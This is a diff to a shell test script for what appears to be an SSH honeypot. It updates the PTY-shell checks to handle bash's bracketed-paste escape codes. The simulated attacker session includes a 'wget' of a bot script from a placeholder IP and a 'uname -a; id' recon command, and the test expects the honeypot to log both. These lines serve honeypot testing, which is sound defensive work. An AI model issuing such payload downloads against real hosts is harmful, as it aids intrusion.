@@ -68,13 +68,16 @@ expect_log "ssh login with HASSH" 'shell01 ssh - auth_attempt' 'username="root"'
     'client_version="SSH-2.0-OpenSSH_' 'hassh="[0-9a-f]{32}"'
 expect_log "exec command" 'shell01 ssh - command' 'command="uname -a; id"'
 
-# --- PTY shell
+# --- PTY shell (TERM=xterm: bash 5.2 brackets pastes and sets the window
+# title, but colours only *-256color prompts)
 printf 'whoami\ncd /tmp && pwd\nwget http://203.0.113.9/bot.sh\nexit 0\n' \
-    | timeout 30 sshpass -p s3cret ssh -tt "${SSHOPTS[@]}" -p "$(p 22)" deploy@$SHELLBOX >"$WORK/shell.out" 2>&1 \
+    | TERM=xterm timeout 30 sshpass -p s3cret ssh -tt "${SSHOPTS[@]}" -p "$(p 22)" deploy@$SHELLBOX >"$WORK/shell.out" 2>&1 \
     || { cat "$WORK/shell.out"; fail "ssh shell"; }
 tr -d '\r' <"$WORK/shell.out" >"$WORK/shell.txt"
-grep -q "^deploy$\|\$ deploy$" "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "whoami in shell"; }
-grep -q "\(^\|\$ \)/tmp$" "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "cd/pwd in shell"; }
+# Each output follows readline's bracketed-paste-off sequence.
+paste_off=$'\e\\[?2004l'
+grep -q "^${paste_off}deploy$" "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "whoami in shell"; }
+grep -q "^${paste_off}/tmp$" "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "cd/pwd in shell"; }
 grep -q 'deploy@[a-z0-9-]*:/tmp\$ ' "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "prompt"; }
 expect_log "shell command" 'shell01 ssh - command' 'command="whoami"' 'user="deploy"'
 expect_log "wget recorded" 'shell01 ssh - file_download' 'url="http://203.0.113.9/bot.sh"'
